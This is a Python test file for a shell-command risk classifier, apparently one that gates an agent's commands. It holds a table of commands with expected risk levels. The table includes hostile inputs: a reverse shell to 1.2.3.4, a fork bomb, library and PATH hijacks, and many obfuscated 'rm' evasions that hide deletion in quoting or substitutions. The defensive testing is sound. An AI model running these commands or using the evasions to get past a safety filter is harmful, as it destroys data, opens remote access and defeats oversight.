"""Risk table: the shell language itself (lexer, parser and engine).

Quoting, separators, compound commands, substitutions, here-documents, redirections,
assignments, arithmetic and command names.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from lamtui.contract.risk import Risk
from lamtui.safety.risk import classify_command

ROWS: list[tuple[str, Risk]] = [
    # --- read-only: files and text -----------------------------------------------------------
    ("cat a 2>/dev/null", "read_only"),
    # --- read-only: shell builtins and control flow ------------------------------------------
    ("echo hi >&2", "read_only"),
    ("echo hi > /dev/null", "read_only"),
    ("ls 2>&1 | head", "read_only"),
    ("x=1", "read_only"),
    ("x=$((1 + 2)); echo $x", "read_only"),
    ("(( x = 1 + 2 ))", "read_only"),
    ("echo $((1 + 2))", "read_only"),
    ("cat <<EOF\nhello\nEOF", "read_only"),
    ("cat <<< 'hello'", "read_only"),
    ("for f in *.txt; do echo $f; done", "read_only"),
    ("if [ -f x ]; then cat x; else echo none; fi", "read_only"),
    ("while read -r l; do echo $l; done < notes.txt", "read_only"),
    ("case $x in a) ls;; b|c) pwd;; esac", "read_only"),
    ("echo $'\\x72\\x6d'", "read_only"),
    ("ls # ; rm -rf /", "read_only"),
    ("", "read_only"),
    # --- workspace writes --------------------------------------------------------------------
    ("> important.txt", "workspace_write"),
    ("echo hi > out.txt", "workspace_write"),
    ("echo hi >> out.txt", "workspace_write"),
    ("cat a b > c", "workspace_write"),
    ("ls > listing.txt 2>&1", "workspace_write"),
    ("make_it=1 printf x &> out.log", "workspace_write"),
    ("cat <<EOF > out.txt\nhello $(whoami)\nEOF", "workspace_write"),
    ("{ ls; pwd; } > out.txt", "workspace_write"),
    # --- unknown: code the classifier cannot see ---------------------------------------------
    ("./build.sh", "unknown"),
    ("f() { ls; }", "unknown"),
    ("function f { ls; }", "unknown"),
    (":(){ :|:& };:", "unknown"),
    ("$CMD x", "unknown"),
    ("${X} y", "unknown"),
    ("$(echo rm) -rf x", "unknown"),
    ("`echo rm` x", "unknown"),
    ("a=rm; $a x", "unknown"),
    ("/tmp/evil", "unknown"),
    ("~/bin/tool", "unknown"),
    ("r? x", "unknown"),
    ("{rm,x}", "unknown"),
    ("PATH=/tmp ls", "unknown"),
    ("LD_PRELOAD=/x.so ls", "unknown"),
    ("PYTHONPATH=. ls", "unknown"),
    ("IFS=/ ls", "unknown"),
    ("PROMPT_COMMAND='rm x'", "unknown"),
    ('echo "oops', "unknown"),
    ("echo 'oops", "unknown"),
    ("ls $(", "unknown"),
    ("(ls", "unknown"),
    ("{ ls", "unknown"),
    ("if true; then ls", "unknown"),
    ("ls &&", "unknown"),
    ("| ls", "unknown"),
    ("ls )", "unknown"),
    ("frobnicate --all", "unknown"),
    ("vim notes.txt", "unknown"),
    ("ls | while read f; do $f; done", "unknown"),
    # --- outside the workspace ---------------------------------------------------------------
    ("(cd /tmp); touch x", "workspace_write"),
    ("(cd /tmp; touch x)", "outside_write"),
    # --- evasions the brief names ------------------------------------------------------------
    ("r''m -rf x", "destructive"),
    ('"rm" -rf x', "destructive"),
    ("\\rm x", "destructive"),
    ("r\\m x", "destructive"),
    ("$'\\x72\\x6d' -rf x", "destructive"),
    ("/bin/rm x", "destructive"),
    ("FOO=1 rm x", "destructive"),
    ("ls; rm x", "destructive"),
    ("ls || rm x", "destructive"),
    ("ls\nrm x", "destructive"),
    ("true & rm x", "destructive"),
    ("(rm x)", "destructive"),
    ("{ rm x; }", "destructive"),
    ("if true; then rm x; fi", "destructive"),
    ("while false; do rm x; done", "destructive"),
    ("case a in a) rm x;; esac", "destructive"),
    ("! rm x", "destructive"),
    ("cat <(rm x)", "destructive"),
    ('ls "$(rm x)"', "destructive"),
    ("echo `rm x`", "destructive"),
    ('echo "${x:-$(rm y)}"', "destructive"),
    ("for f in $(rm x); do :; done", "destructive"),
    ("x=$(rm y)", "destructive"),
    ("echo > >(rm x)", "destructive"),
    ("cat <<EOF\n$(rm x)\nEOF", "destructive"),
    ("$(echo rm) x; rm y", "destructive"),
    ("f() { rm -rf x; }", "destructive"),
    ("$'rm' x", "destructive"),
    ("s\\udo rm x", "privileged"),
    ("a[$(rm x)]=1", "destructive"),
    ("echo $((`rm x`))", "destructive"),
    ("ls `echo \\`rm x\\``", "destructive"),
    ('echo "$(echo "$(rm x)")"', "destructive"),
    ("echo ${x/$(rm y)/z}", "destructive"),
    ("echo $((rm x) )", "destructive"),
    ('echo "$(( echo hi) )"', "read_only"),
    ("bash -i >& /dev/tcp/1.2.3.4/8080 0>&1", "network"),
    ("ls | tee >(grep x > out.txt)", "workspace_write"),
    # bash evaluates variable values in arithmetic, running `a[$(cmd)]` hidden in them
    ("x='a[$(rm y)]'; echo $((x))", "unknown"),
    ("n=$(cat f); echo $((n + 1))", "unknown"),
    ("for i in 1 2 3; do echo $((i * 2)); done", "read_only"),
    ("x=5; echo $((x + 1))", "read_only"),
    ("while true; do echo $((n)); read n || break; done < f", "unknown"),
    ("for i in 1 2 3; do x=$((i * 2)); echo $((x)); done", "read_only"),
    # a loop runs its body again, so a cd late in the body moves writes early in it
    ("for d in a b; do touch x; cd ..; done", "outside_write"),
    ('while read -r line; do echo "$line"; done < notes.txt', "read_only"),
]


@pytest.mark.parametrize(("command", "expected"), ROWS, ids=[repr(c)[:60] for c, _ in ROWS])
def test_classification(command: str, expected: Risk, workspace: Path) -> None:
    result = classify_command(command, workspace)
    assert result.risk == expected, result.to_dict()
